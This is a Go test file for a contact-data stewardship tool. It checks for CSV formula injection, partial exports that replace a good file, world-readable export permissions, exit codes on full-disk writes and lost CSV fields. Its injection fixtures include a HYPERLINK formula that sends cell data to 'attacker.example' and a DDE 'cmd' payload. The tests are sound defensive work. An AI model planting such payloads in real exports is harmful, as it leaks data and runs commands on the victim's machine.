package main

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	_ "modernc.org/sqlite"
)

// Tests of the data leaving steward through its commands (found by a review of the
// output paths). People are synthetic.

// failWriter fails every write, as a full disk (or /dev/full) does.
type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("no space left on device") }

// stewardOut runs a command line in-process with stdout w and returns its exit code and
// stderr.
func stewardOut(t *testing.T, w io.Writer, args ...string) (int, string) {
	t.Helper()
	var errb bytes.Buffer
	e := &env{stdin: strings.NewReader(""), stdout: w, stderr: &errb, getenv: func(string) string { return "" }}
	return run(context.Background(), args, e), errb.String()
}

func writeTemp(t *testing.T, name, data string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// formulaLeads are the first characters a spreadsheet reads as the start of a formula.
const formulaLeads = "=+-@\t\r"

// TestExportCSVNeutralizesFormulas: a golden record whose job title, company name or
// city starts with a formula character is exported as is, so the steward who opens the
// export in a spreadsheet runs the formula (CSV injection).
func TestExportCSVNeutralizesFormulas(t *testing.T) {
	in := writeTemp(t, "inj.jsonl", `{"source":"crm","source_id":"X1","updated_at":"2026-01-01T00:00:00Z","given_name":"Anne","family_name":"Dupont","job_title":"=HYPERLINK(\"http://attacker.example/?\"&A1,\"details\")","emails":["anne.dupont@example.org"],"phones":["+33612345678"],"company":{"name":"@SUM(1+1)*cmd|' /C calc'!A0"},"address":{"lines":["1 rue de la Paix"],"city":"+cmd","country":"FR"}}
`)
	db := filepath.Join(t.TempDir(), "w.db")
	if code, _, errs := steward(t, "", "ingest", "-db", db, "-q", in); code != 0 {
		t.Fatalf("ingest: %s", errs)
	}
	code, out, errs := steward(t, "", "export", "-db", db, "-format", "csv")
	if code != 0 {
		t.Fatalf("export exit %d: %s", code, errs)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %v\n%s", err, out)
	}
	for i, cell := range rows[1] {
		col := rows[0][i]
		if col == "phone" || col == "phones" {
			continue // E.164 numbers, "+" and digits only
		}
		if cell != "" && strings.ContainsRune(formulaLeads, rune(cell[0])) {
			t.Errorf("column %s starts with a formula character: %q", col, cell)
		}
	}
}

// TestDedupeClustersCSVNeutralizesFormulas: clusters.csv writes source ids as is.
func TestDedupeClustersCSVNeutralizesFormulas(t *testing.T) {
	in := writeTemp(t, "in.jsonl", `{"source":"crm","source_id":"=HYPERLINK(\"http://attacker.example/\",\"x\")","given_name":"Anne","family_name":"Dupont","emails":["anne.dupont@example.org"]}
{"source":"web","source_id":"W1","given_name":"Bob","family_name":"Martin","emails":["bob.martin@example.org"]}
`)
	out := filepath.Join(t.TempDir(), "clusters.csv")
	if code, _, errs := steward(t, "", "dedupe", "-train", "never", "-out", out, in); code != 0 {
		t.Fatalf("dedupe: %s", errs)
	}
	data, _ := os.ReadFile(out)
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows[1:] {
		for i, cell := range r {
			if cell != "" && strings.ContainsRune(formulaLeads, rune(cell[0])) {
				t.Errorf("clusters.csv column %s starts with a formula character: %q", rows[0][i], cell)
			}
		}
	}
}

// TestExportFailureKeepsEarlierFile: an export that fails part way (a master it cannot
// read) exits 1 but leaves at -o, in place of the earlier complete export, every row up to
// the failure: a well-formed CSV, one golden record short, that reads as complete.
func TestExportFailureKeepsEarlierFile(t *testing.T) {
	db := filepath.Join(t.TempDir(), "w.db")
	if code, _, errs := steward(t, "", "ingest", "-db", db, "-q", "../../testdata/contacts.jsonl"); code != 0 {
		t.Fatalf("ingest: %s", errs)
	}
	out := filepath.Join(t.TempDir(), "golden.csv")
	if code, _, errs := steward(t, "", "export", "-db", db, "-o", out); code != 0 {
		t.Fatalf("export: %s", errs)
	}
	good, _ := os.ReadFile(out)
	// The last master's golden record cannot be read: the export fails on it.
	sdb, err := sql.Open("sqlite", "file:"+db)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sdb.Exec(`UPDATE masters SET golden = '{' WHERE id = (SELECT MAX(id) FROM masters WHERE status = 'active')`); err != nil {
		t.Fatal(err)
	}
	sdb.Close()
	if code, _, _ := steward(t, "", "export", "-db", db, "-o", out); code != 1 {
		t.Fatalf("export of a broken master: exit %d, want 1", code)
	}
	got, err := os.ReadFile(out)
	if err == nil && !bytes.Equal(got, good) {
		rows, cerr := csv.NewReader(bytes.NewReader(got)).ReadAll()
		t.Errorf("failed export left %d bytes at -o (a CSV of %d rows, parse error %v; the earlier export had %d bytes): want the earlier file or none",
			len(got), len(rows), cerr, len(good))
	}
	if left, _ := filepath.Glob(filepath.Join(filepath.Dir(out), ".*")); len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

// TestExportFileNotWorldReadable: the export holds personal data (names, e-mails,
// phones, birth dates); -o creates it readable by every user (0644 under umask 022).
func TestExportFileNotWorldReadable(t *testing.T) {
	db := filepath.Join(t.TempDir(), "w.db")
	in := writeTemp(t, "a.jsonl", `{"source":"crm","source_id":"A1","given_name":"Anne","family_name":"Dupont","emails":["anne.dupont@example.org"],"birth_date":"1980-02-03"}`+"\n")
	if code, _, errs := steward(t, "", "ingest", "-db", db, "-q", in); code != 0 {
		t.Fatalf("ingest: %s", errs)
	}
	for _, name := range []string{"golden.csv", "queue.json"} {
		out := filepath.Join(t.TempDir(), name)
		args := []string{"export", "-db", db, "-o", out}
		if name == "queue.json" {
			args = []string{"review", "-db", db, "-json", "-o", out}
		}
		if code, _, errs := steward(t, "", args...); code != 0 {
			t.Fatalf("%v: %s", args, errs)
		}
		fi, err := os.Stat(out)
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s -o %s: mode %v, want no access for group and others", args[0], name, fi.Mode().Perm())
		}
	}
}

// TestStatsWriteErrorExitCode: `steward stats > /dev/full` exits 0 with nothing
// written; so does dedupe's -truth report.
func TestStatsWriteErrorExitCode(t *testing.T) {
	db := filepath.Join(t.TempDir(), "w.db")
	if code, _, errs := steward(t, "", "ingest", "-db", db, "-q", "../../testdata/contacts.jsonl"); code != 0 {
		t.Fatalf("ingest: %s", errs)
	}
	if code, errs := stewardOut(t, failWriter{}, "stats", "-db", db); code != 1 {
		t.Errorf("stats to a full disk: exit %d, want 1 (stderr %q)", code, errs)
	}
	if code, errs := stewardOut(t, failWriter{}, "stats", "-db", db, "-json"); code != 1 {
		t.Errorf("stats -json to a full disk: exit %d, want 1 (stderr %q)", code, errs)
	}
	gen := filepath.Join(t.TempDir(), "g.jsonl")
	if code, _, errs := steward(t, "", "gen", "-n", "200", "-seed", "2", "-o", gen); code != 0 {
		t.Fatalf("gen: %s", errs)
	}
	if code, errs := stewardOut(t, failWriter{}, "dedupe", "-truth", "entity_id", "-train", "never", gen); code != 1 {
		t.Errorf("dedupe -truth to a full disk: exit %d, want 1 (stderr %q)", code, errs)
	}
}

// TestGenCSVKeepsFields: `gen -o x.csv` drops the region, LEI and DUNS that the JSONL
// output of the same flags holds (the CSV reader maps columns region, lei and duns).
func TestGenCSVKeepsFields(t *testing.T) {
	dir := t.TempDir()
	js, cs := filepath.Join(dir, "g.jsonl"), filepath.Join(dir, "g.csv")
	for _, out := range []string{js, cs} {
		if code, _, errs := steward(t, "", "gen", "-n", "2000", "-seed", "5", "-o", out); code != 0 {
			t.Fatalf("gen: %s", errs)
		}
	}
	count := func(file string) (region, lei, duns int) {
		t.Helper()
		code, out, errs := steward(t, "", "normalize", file)
		if code != 0 {
			t.Fatalf("normalize %s: %s", file, errs)
		}
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			var r struct {
				Record struct {
					Address *struct{ Region string }    `json:"address"`
					Company *struct{ LEI, DUNS string } `json:"company"`
				} `json:"record"`
			}
			if err := json.Unmarshal([]byte(l), &r); err != nil {
				t.Fatal(err)
			}
			if a := r.Record.Address; a != nil && a.Region != "" {
				region++
			}
			if c := r.Record.Company; c != nil {
				if c.LEI != "" {
					lei++
				}
				if c.DUNS != "" {
					duns++
				}
			}
		}
		return
	}
	r1, l1, d1 := count(js)
	r2, l2, d2 := count(cs)
	if r1 == 0 || l1 == 0 || d1 == 0 {
		t.Fatalf("generated JSONL has %d regions, %d LEIs, %d DUNS: the test needs some", r1, l1, d1)
	}
	if r2 != r1 || l2 != l1 || d2 != d1 {
		t.Errorf("same flags: JSONL has %d regions, %d LEIs, %d DUNS; CSV %d, %d, %d", r1, l1, d1, r2, l2, d2)
	}
}

// TestStatsJSONDeadLettersArray: without dead letters (or without -dead-letters, the
// default) stats -json writes "dead_letters": null, where "advice" is [] and the
// dead letters, when listed, an array.
func TestStatsJSONDeadLettersArray(t *testing.T) {
	db := filepath.Join(t.TempDir(), "w.db")
	if code, _, errs := steward(t, "", "migrate", "-db", db); code != 0 {
		t.Fatalf("migrate: %s", errs)
	}
	code, out, errs := steward(t, "", "stats", "-db", db, "-json", "-dead-letters", "5")
	if code != 0 {
		t.Fatalf("stats: %s", errs)
	}
	var doc map[string]json.RawMessage
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	if string(doc["dead_letters"]) != "[]" {
		t.Errorf(`"dead_letters": %s, want []`, doc["dead_letters"])
	}
}
